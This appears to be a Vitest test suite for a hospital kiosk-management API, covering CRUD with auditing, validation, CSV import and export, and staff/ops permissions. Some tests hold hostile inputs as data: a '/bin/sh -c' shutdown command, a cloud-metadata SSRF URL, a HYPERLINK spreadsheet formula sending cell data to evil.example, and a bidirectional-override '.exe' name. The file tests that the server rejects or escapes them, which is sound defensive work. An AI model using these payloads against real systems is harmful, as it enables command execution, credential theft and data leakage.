import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { kioskBody, seedTwoHospitals } from '../../testing/fixtures';
import { Client, startTestApi, TestApi } from '../../testing/test-app';

describe('kiosks', () => {
  let api: TestApi;
  let ids: Awaited<ReturnType<typeof seedTwoHospitals>>;
  let staffA: Client;
  let ops: Client;
  const count = async () => Number((await api.db.query('SELECT COUNT(*) AS n FROM kiosks'))[0].n);
  const auditCount = async () => Number((await api.db.query('SELECT COUNT(*) AS n FROM audit_entries WHERE entity_type = "kiosk"'))[0].n);

  beforeAll(async () => {
    api = await startTestApi();
    ids = await seedTwoHospitals(api.db);
    staffA = await api.login('staff-a');
    ops = await api.login('ops');
  });
  afterAll(() => api?.close());

  it('ops create, read, update and delete a kiosk, each change audited with before and after', async () => {
    const created = await ops.post('/api/kiosks', kioskBody(ids.siteA, 7, { mac: '00-1A-2B-3C-4D-07' }));
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ code: 'MZ-1F-07', hospitalId: ids.hospitalA, mac: '00:1a:2b:3c:4d:07', vncPort: 5900 });
    const id = created.body.id;

    expect((await staffA.get(`/api/kiosks/${id}`)).body.name).toBe('Registration 7');
    const patched = await ops.patch(`/api/kiosks/${id}`, { name: 'Registration seven', vncPort: 5901 });
    expect(patched.status).toBe(200);
    // Fields the PATCH does not mention keep their values.
    expect(patched.body).toMatchObject({
      name: 'Registration seven',
      vncPort: 5901,
      code: 'MZ-1F-07',
      location: 'Outpatient hall',
      ip: '10.1.2.7',
      subnet: '10.1.2.0/24',
    });

    const list = await staffA.get(`/api/kiosks?siteId=${ids.siteA}&q=MZ-1F&page=1&pageSize=10`);
    expect(list.body).toMatchObject({ total: 1, page: 1, pageSize: 10 });
    expect(list.body.items[0].id).toBe(id);

    expect((await ops.delete(`/api/kiosks/${id}`)).status).toBe(204);
    expect((await staffA.get(`/api/kiosks/${id}`)).status).toBe(404);

    const entries = await api.db.query(
      `SELECT action, actor_name, hospital_id, \`before\`, \`after\` FROM audit_entries WHERE entity_id = ? ORDER BY id`,
      [id],
    );
    expect(entries.map((e: { action: string }) => e.action)).toEqual(['create', 'update', 'delete']);
    const update = entries[1];
    const parse = (v: unknown) => (typeof v === 'string' ? JSON.parse(v) : v);
    expect(parse(update.before)).toMatchObject({ name: 'Registration 7', vncPort: 5900 });
    expect(parse(update.after)).toMatchObject({ name: 'Registration seven', vncPort: 5901 });
    expect(update.actor_name).toBe('ops');
    expect(update.hospital_id).toBe(ids.hospitalA);
  });

  it.each([
    ['code', { code: 'bad code!' }],
    ['name', { name: '' }],
    ['kind', { kind: 'toaster' }],
    ['ip', { ip: '10.1.2.300' }],
    ['ip', { ip: '10.9.9.9' }], // outside its subnet
    ['mac', { mac: '00:1a:2b:3c:4d' }],
    ['mac', { mac: 'zz:1a:2b:3c:4d:5e' }],
    ['subnet', { subnet: '10.1.2.0/33' }],
    ['vncPort', { vncPort: 70000 }],
    ['vncPort', { vncPort: [5900] }], // exact types: no coercion of JSON
    ['vncPort', { vncPort: '5900' }],
    ['siteId', { siteId: 'not-a-uuid' }],
    ['shutdownMethod', { shutdownMethod: { method: 'command', argv: ['/bin/sh', '-c', 'id > proof.txt'] } }],
    ['shutdownMethod', { shutdownMethod: 'Net RPC' }],
    ['location', { location: 'x'.repeat(201) }],
  ])('bad %s is a 400 naming the field, and stores nothing', async (field, patch) => {
    const before = await count();
    const res = await ops.post('/api/kiosks', kioskBody(ids.siteA, 50, patch));
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('VALIDATION_FAILED');
    expect(res.body.error.field).toBe(field);
    expect(res.body.error.message).toContain(field);
    expect(await count()).toBe(before);
  });

  it("a shutdown method is the name of a method configured on the site's agents: never a program, argv or URL", async () => {
    const ops = await api.login('ops');
    const id = (await ops.post('/api/kiosks', kioskBody(ids.siteA, 52))).body.id;
    for (const inline of [
      { method: 'command', argv: ['/bin/sh', '-c', 'id > proof.txt'] },
      { method: 'http', url: 'http://169.254.169.254/latest/meta-data/' },
      { method: 'net-rpc' },
    ]) {
      const res = await ops.patch(`/api/kiosks/${id}`, { shutdownMethod: inline });
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({ code: 'VALIDATION_FAILED', field: 'shutdownMethod' });
      expect(res.body.error.message).toMatch(/^shutdownMethod: the name of a shutdown method configured on the site's agents/);
    }
    const named = await ops.patch(`/api/kiosks/${id}`, { shutdownMethod: 'net-rpc' });
    expect(named.status).toBe(200);
    expect(named.body.shutdownMethod).toBe('net-rpc');
    expect((await ops.get(`/api/kiosks/${id}`)).body.shutdownMethod).toBe('net-rpc');
    expect((await ops.patch(`/api/kiosks/${id}`, { shutdownMethod: 'x'.repeat(33) })).status).toBe(400);
    expect((await ops.patch(`/api/kiosks/${id}`, { shutdownMethod: null })).body.shutdownMethod).toBeNull();
  });

  it.each([
    ['name', 'Lobby \u202Egnp.exe', 'U+202E'],
    ['name', 'Lobby\u0007', 'U+0007'],
    ['location', 'Hall\nB', 'U+000A'],
    ['notes', 'first line\u2066hidden', 'U+2066'],
  ])('%s with control or bidirectional characters is a 400 TEXT_CHARACTERS_INVALID, and stores nothing', async (field, value, codePoint) => {
    const before = await count();
    const res = await ops.post('/api/kiosks', kioskBody(ids.siteA, 52, { [field]: value }));
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'TEXT_CHARACTERS_INVALID', field });
    expect(res.body.error.message).toContain(codePoint);
    expect(await count()).toBe(before);
  });

  it('notes keep their newlines and tabs', async () => {
    const res = await ops.post('/api/kiosks', kioskBody(ids.siteA, 53, { notes: 'line one\n\tline two' }));
    expect(res.status).toBe(201);
    expect(res.body.notes).toBe('line one\n\tline two');
  });

  it('an unknown field is refused, not ignored', async () => {
    const res = await ops.post('/api/kiosks', kioskBody(ids.siteA, 51, { colour: 'blue' }));
    expect(res.status).toBe(400);
  });

  it('duplicate code or MAC within the hospital is 409 with the field', async () => {
    expect((await ops.post('/api/kiosks', kioskBody(ids.siteA, 60))).status).toBe(201);
    const sameCode = await ops.post('/api/kiosks', kioskBody(ids.siteA, 60, { mac: '00:1a:2b:3c:4d:99' }));
    expect(sameCode.status).toBe(409);
    expect(sameCode.body.error).toMatchObject({ code: 'KIOSK_CODE_TAKEN', field: 'code' });
    const sameMac = await ops.post('/api/kiosks', kioskBody(ids.siteA, 61, { mac: '00:1a:2b:3c:4d:3c' }));
    expect(sameMac.status).toBe(409);
    expect(sameMac.body.error).toMatchObject({ code: 'KIOSK_MAC_TAKEN', field: 'mac' });
  });

  it('the audit entry is written in the change\'s transaction: if it cannot be written, the change is rolled back', async () => {
    const before = await count();
    await api.db.query('RENAME TABLE audit_entries TO audit_entries_away');
    try {
      const res = await ops.post('/api/kiosks', kioskBody(ids.siteA, 70));
      expect(res.status).toBe(500);
      expect(res.body).toEqual({ error: { code: 'INTERNAL', message: 'internal error' } });
    } finally {
      await api.db.query('RENAME TABLE audit_entries_away TO audit_entries');
    }
    expect(await count()).toBe(before);
  });

  describe('CSV import and export', () => {
    const header = 'code,name,kind,location,ip,mac,subnet,vncPort,notes';

    it('imports every row, audits each kiosk, and exports the same rows back', async () => {
      const rows = Array.from({ length: 120 }, (_, i) => {
        const n = i + 1;
        return `BG-2F-${String(n).padStart(3, '0')},Report printer ${n},report-printer,"Hall B, floor 2",10.2.0.${n},00:aa:bb:cc:00:${n.toString(16).padStart(2, '0')},10.2.0.0/24,5900,Paper tray ${n}`;
      });
      const auditsBefore = await auditCount();
      const res = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, [header, ...rows].join('\n'));
      expect(res.status).toBe(201);
      expect(res.body).toEqual({ imported: 120 });
      expect(await auditCount()).toBe(auditsBefore + 120);

      const exported = await staffA.get(`/api/sites/${ids.siteA}/kiosks.csv`);
      expect(exported.status).toBe(200);
      expect(exported.headers.get('content-type')).toMatch(/text\/csv/);
      const lines = exported.text.trim().split('\n');
      expect(lines[0]).toBe(header);
      expect(lines).toContain(rows[41]);
    });

    it('reports every bad row with its line number and stores nothing', async () => {
      const before = await count();
      const csv = [
        header,
        'MZ-9F-01,Good row,registration,,10.3.0.1,00:cc:00:00:00:01,10.3.0.0/24,5900,', // line 2: fine
        'MZ-9F-02,Bad MAC,registration,,10.3.0.2,00:cc:00:00:00,10.3.0.0/24,5900,', // line 3
        'MZ-9F-01,Duplicate code,registration,,10.3.0.3,00:cc:00:00:00:03,10.3.0.0/24,5900,', // line 4
        'MZ-9F-04,Bad IP,registration,,10.3.0.999,00:cc:00:00:00:04,10.3.0.0/24,5900,', // line 5
        'MZ-9F-05,Same MAC,registration,,10.3.0.5,00:CC:00:00:00:01,10.3.0.0/24,5900,', // line 6
        'BG-2F-001,Exists in database,registration,,10.3.0.6,00:cc:00:00:00:06,10.3.0.0/24,5900,', // line 7
        'MZ-9F-07,Bad kind,coffee,,10.3.0.7,00:cc:00:00:00:07,10.3.0.0/24,5900,', // line 8
      ].join('\n');
      const res = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, csv);
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('IMPORT_INVALID');
      const problems = res.body.error.details as { line: number; field: string }[];
      expect(problems.map((p) => [p.line, p.field])).toEqual([
        [3, 'mac'],
        [4, 'code'],
        [5, 'ip'],
        [6, 'mac'],
        [7, 'code'],
        [8, 'kind'],
      ]);
      expect(await count()).toBe(before);
    });

    it('refuses a file with missing columns, no rows, or not sent as CSV', async () => {
      const noMac = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, 'code,name,kind\nA-1,A,registration');
      expect(noMac.status).toBe(400);
      expect(noMac.body.error.details[0]).toMatchObject({ line: 1 });
      expect(noMac.body.error.details[0].message).toContain('missing column(s): mac');
      const empty = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, header);
      expect(empty.status).toBe(400);
      const json = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, { rows: [] });
      expect(json.status).toBe(400);
      expect(json.body.error.code).toBe('IMPORT_NOT_CSV');
    });

    it('the export shows cells that look like formulas as text, and imports them back unchanged', async () => {
      const id = (await ops.post('/api/kiosks', kioskBody(ids.siteA, 90))).body.id;
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      expect((await staffA.patch(`/api/kiosks/${id}`, { name: formula, notes: '@SUM(1+1)' })).status).toBe(200);
      const exported = (await ops.get(`/api/sites/${ids.siteA}/kiosks.csv`)).text;
      const line = exported.split('\n').find((l) => l.startsWith('MZ-1F-90,'))!;
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
      expect(line.endsWith(",'@SUM(1+1)")).toBe(true);
      // Re-imported into another site under a new code and MAC, the name is the text staff wrote.
      const reimport = `${header}\n${line.replace('MZ-1F-90', 'MZ-1F-91').replace(/00:1a:2b:3c:4d:5a/, '00:1a:2b:3c:4d:5b')}`;
      expect((await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, reimport)).status).toBe(201);
      const copy = (await ops.get(`/api/kiosks?siteId=${ids.siteA}&q=MZ-1F-91`)).body.items[0];
      expect(copy).toMatchObject({ name: formula, notes: '@SUM(1+1)' });
    });

    it('stops reading at the first row past 5,000, and takes one import at a time per user', async () => {
      const before = await count();
      const row = (i: number) =>
        `BIG-${i},Kiosk ${i},registration,,10.5.${(i >> 8) & 255}.${i & 255},02:00:00:${[16, 8, 0].map((s) => ((i >> s) & 255).toString(16).padStart(2, '0')).join(':')},10.5.0.0/16,5900,`;
      // 4.6 MB, eleven times the cap.
      const huge = [header, ...Array.from({ length: 55_000 }, (_, i) => row(i))].join('\n');
      const refused = await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, huge);
      expect(refused.status).toBe(400);
      expect(refused.body.error.details).toEqual([{ line: 1, message: 'at most 5000 rows per import (the file has more); split it' }]);

      const file = (from: number) => [header, ...Array.from({ length: 2000 }, (_, i) => row(from + i))].join('\n');
      const [first, second] = await Promise.all([
        ops.post(`/api/sites/${ids.siteA}/kiosks/import`, file(0)),
        ops.post(`/api/sites/${ids.siteA}/kiosks/import`, file(2000)),
      ]);
      expect([first.status, second.status].sort()).toEqual([201, 409]);
      expect([first, second].find((r) => r.status === 409)!.body.error.code).toBe('IMPORT_IN_PROGRESS');
      expect(await count()).toBe(before + 2000);
      // Once it has finished, the next file is taken.
      expect((await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, file(4000))).status).toBe(201);
    });

    it('staff of A cannot import into or export from a site of hospital B', async () => {
      const csv = `${header}\nX-1,X,registration,,10.4.0.1,00:dd:00:00:00:01,10.4.0.0/24,5900,`;
      const before = await count();
      expect((await staffA.post(`/api/sites/${ids.siteB}/kiosks/import`, csv)).status).toBe(404);
      expect((await staffA.get(`/api/sites/${ids.siteB}/kiosks.csv`)).status).toBe(404);
      expect(await count()).toBe(before);
    });
  });

  describe('who may change what (staff: the description; ops: the network coordinates)', () => {
    let kioskId: string;
    const row = async () => (await api.db.query('SELECT * FROM kiosks WHERE id = ?', [kioskId]))[0];
    const denials = async () =>
      (
        await api.db.query(
          `SELECT \`after\` FROM audit_entries WHERE action = 'access_denied' AND entity_type = 'kiosk' ORDER BY id`,
        )
      ).map((e: { after: unknown }) => (typeof e.after === 'string' ? JSON.parse(e.after) : e.after));

    beforeAll(async () => {
      kioskId = (await ops.post('/api/kiosks', kioskBody(ids.siteA, 80))).body.id;
    });

    it.each([
      ['ip', { ip: '10.1.2.200' }],
      ['mac', { mac: '00:1a:2b:3c:4d:ee' }],
      ['subnet', { subnet: '10.1.0.0/16' }],
      ['vncPort', { vncPort: 6379 }],
      ['shutdownMethod', { shutdownMethod: null, name: 'harmless' }],
      ['code', { code: 'MZ-1F-81' }],
    ])(
      'staff changing %s get 403 KIOSK_FIELD_FORBIDDEN naming it; nothing changes; the refusal is audited',
      async (field, patch) => {
        if (field === 'shutdownMethod')
          await api.db.query(`UPDATE kiosks SET shutdown_method = '"net-rpc"' WHERE id = ?`, [kioskId]);
        const before = await row();
        const deniedBefore = (await denials()).length;
        const res = await staffA.patch(`/api/kiosks/${kioskId}`, patch);
        expect(res.status).toBe(403);
        expect(res.body.error).toMatchObject({ code: 'KIOSK_FIELD_FORBIDDEN', field });
        expect(res.body.error.message).toContain('set by ops');
        expect(await row()).toEqual(before);
        const audited = await denials();
        expect(audited).toHaveLength(deniedBefore + 1);
        expect(audited.at(-1)).toEqual({ refusedFields: [field] });
      },
    );

    it('staff change the description (name, kind, location, notes), audited; the whole kiosk sent back unchanged passes', async () => {
      const current = (await staffA.get(`/api/kiosks/${kioskId}`)).body;
      const description = {
        name: 'Lobby registration',
        kind: 'payment',
        location: 'Hall A',
        notes: 'Card reader sticks; call ext. 4410',
      };
      const res = await staffA.patch(`/api/kiosks/${kioskId}`, {
        ...description,
        ip: current.ip,
        mac: current.mac.toUpperCase(),
        subnet: current.subnet,
        vncPort: current.vncPort,
      });
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ ...description, ip: current.ip, vncPort: current.vncPort });
      const [entry] = await api.db.query(
        `SELECT actor_name, \`after\` FROM audit_entries WHERE entity_id = ? AND action = 'update' ORDER BY id DESC LIMIT 1`,
        [kioskId],
      );
      expect(entry.actor_name).toBe('staff-a');
      expect(typeof entry.after === 'string' ? JSON.parse(entry.after) : entry.after).toMatchObject(description);
    });

    it('staff may not add, import or remove kiosks (each carries its MAC and address); ops may', async () => {
      const before = await count();
      const deniedBefore = (await denials()).length;
      const created = await staffA.post('/api/kiosks', kioskBody(ids.siteA, 82));
      expect(created.status).toBe(403);
      expect(created.body.error.code).toBe('KIOSK_FIELD_FORBIDDEN');
      const csv =
        'code,name,kind,location,ip,mac,subnet,vncPort\nMZ-1F-83,X,registration,,127.0.0.1,00:1a:2b:3c:4d:83,,6379';
      const imported = await staffA.post(`/api/sites/${ids.siteA}/kiosks/import`, csv);
      expect(imported.status).toBe(403);
      expect(imported.body.error.code).toBe('KIOSK_FIELD_FORBIDDEN');
      expect(imported.body.error.message).toMatch(/ip.*mac.*subnet.*vncPort/);
      const removed = await staffA.delete(`/api/kiosks/${kioskId}`);
      expect(removed.status).toBe(403);
      expect(removed.body.error.code).toBe('KIOSK_DELETE_FORBIDDEN');
      expect(await count()).toBe(before);
      const audited = (await denials()).slice(deniedBefore);
      expect(audited).toEqual([
        { refusedFields: expect.arrayContaining(['siteId', 'code', 'mac', 'ip', 'subnet', 'vncPort']) },
        { refusedFields: ['code', 'ip', 'mac', 'subnet', 'vncPort'] },
        { refused: 'delete' },
      ]);
      expect((await ops.patch(`/api/kiosks/${kioskId}`, { vncPort: 5901, ip: '10.1.2.81' })).status).toBe(200);
    });

    it('viewers change nothing, not even the description', async () => {
      const viewer = await api.login('viewer-a');
      const res = await viewer.patch(`/api/kiosks/${kioskId}`, { name: 'x' });
      expect(res.status).toBe(403);
    });
  });
});
